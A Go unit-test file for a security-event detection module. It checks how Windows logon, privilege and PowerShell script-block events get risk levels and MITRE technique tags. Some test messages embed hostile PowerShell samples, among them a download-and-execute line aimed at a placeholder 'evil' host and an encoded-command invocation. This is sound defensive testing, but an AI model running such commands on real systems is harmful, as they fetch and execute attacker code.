package detection

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/MLidstrom/castellan/internal/domain/event"
)

func refinable(eventID int, message string) *event.SecurityEvent {
	return &event.SecurityEvent{
		Log: &event.LogEvent{
			EventID: eventID,
			Message: message,
			Time:    time.Date(2026, 3, 11, 10, 0, 0, 0, time.UTC),
		},
		Type:       event.TypeAuthenticationSuccess,
		Risk:       event.RiskMedium,
		Confidence: 95,
	}
}

func TestRefineBruteForce(t *testing.T) {
	se := refinable(4625, "An account failed to log on. Status: 0xC000006A bad password")
	se.Type = event.TypeAuthenticationFailure
	se.Risk = event.RiskHigh

	require.True(t, ApplyRefinements(se))
	assert.Equal(t, event.RiskCritical, se.Risk)
	assert.Equal(t, 95, se.Confidence)
	assert.Contains(t, se.MitreTechniques, "T1110.001")
	assert.Contains(t, se.RecommendedActions, "Block source IP address")
	assert.True(t, se.IsEnhanced)
}

func TestRefineAdminLogon(t *testing.T) {
	se := refinable(4624, "New Logon: Account Name: Administrator")
	se.Confidence = 80

	require.True(t, ApplyRefinements(se))
	assert.Equal(t, event.RiskHigh, se.Risk)
	assert.Equal(t, 90, se.Confidence)
	assert.Contains(t, se.MitreTechniques, "T1068")
}

func TestRefineOffHoursLogon(t *testing.T) {
	se := refinable(4624, "New Logon: Account Name: alice")
	se.Log.Time = time.Date(2026, 3, 11, 3, 0, 0, 0, time.UTC)
	se.Confidence = 80

	require.True(t, ApplyRefinements(se))
	assert.Equal(t, event.RiskMedium, se.Risk)
	assert.Equal(t, 85, se.Confidence)
	assert.Contains(t, se.MitreTechniques, "T1078")
}

func TestRefineBusinessHoursLogonUnchanged(t *testing.T) {
	se := refinable(4624, "New Logon: Account Name: alice")
	assert.False(t, ApplyRefinements(se))
	assert.Equal(t, event.RiskMedium, se.Risk)
	assert.True(t, se.IsEnhanced)
}

func TestRefineSpecialPrivileges(t *testing.T) {
	t.Run("high privilege sid", func(t *testing.T) {
		se := refinable(4672, "Special privileges assigned to new logon. Account: S-1-5-18")
		se.Risk = event.RiskCritical
		se.Confidence = 80
		require.True(t, ApplyRefinements(se))
		assert.Equal(t, event.RiskCritical, se.Risk)
		assert.Equal(t, 95, se.Confidence)
	})

	t.Run("routine service privileges downgraded", func(t *testing.T) {
		se := refinable(4672, "Privileges: SeChangeNotifyPrivilege SeImpersonatePrivilege SeCreateGlobalPrivilege")
		se.Risk = event.RiskCritical
		require.True(t, ApplyRefinements(se))
		assert.Equal(t, event.RiskLow, se.Risk)
		assert.Equal(t, 60, se.Confidence)
		assert.Equal(t, []string{"T1078"}, se.MitreTechniques)
	})

	t.Run("sensitive privilege keeps risk", func(t *testing.T) {
		se := refinable(4672, "Privileges: SeChangeNotifyPrivilege SeDebugPrivilege")
		se.Risk = event.RiskCritical
		assert.False(t, ApplyRefinements(se))
		assert.Equal(t, event.RiskCritical, se.Risk)
	})
}

func TestRefineScriptBlock(t *testing.T) {
	t.Run("download and execute", func(t *testing.T) {
		se := refinable(4104, "IEX (New-Object Net.WebClient).DownloadString('http://evil/ps1')")
		se.Type = event.TypePowerShellExecution
		se.Risk = event.RiskHigh
		se.Confidence = 80
		require.True(t, ApplyRefinements(se))
		assert.Equal(t, event.RiskHigh, se.Risk)
		assert.Equal(t, 95, se.Confidence)
		assert.Contains(t, se.MitreTechniques, "T1140")
		assert.Contains(t, se.MitreTechniques, "T1027")
	})

	t.Run("encoded command", func(t *testing.T) {
		se := refinable(4104, "powershell.exe -EncodedCommand JABzAGUAYwA=")
		se.Confidence = 80
		require.True(t, ApplyRefinements(se))
		assert.Equal(t, event.RiskHigh, se.Risk)
		assert.Equal(t, 90, se.Confidence)
	})

	t.Run("download cmdlet only", func(t *testing.T) {
		se := refinable(4104, "Invoke-WebRequest -Uri https://example.com/tool.zip")
		se.Confidence = 80
		require.True(t, ApplyRefinements(se))
		assert.Equal(t, event.RiskMedium, se.Risk)
		assert.Contains(t, se.MitreTechniques, "T1105")
	})
}

func TestRefineModuleLoad(t *testing.T) {
	se := refinable(4103, "Importing module powersploit")
	se.Confidence = 80
	require.True(t, ApplyRefinements(se))
	assert.Equal(t, event.RiskMedium, se.Risk)
	assert.Contains(t, se.MitreTechniques, "T1562")
}

func TestRefinementsIdempotent(t *testing.T) {
	se := refinable(4625, "bad password")
	se.Risk = event.RiskHigh
	require.True(t, ApplyRefinements(se))
	before := *se
	assert.False(t, ApplyRefinements(se))
	assert.Equal(t, before.Risk, se.Risk)
	assert.Equal(t, before.Confidence, se.Confidence)
}
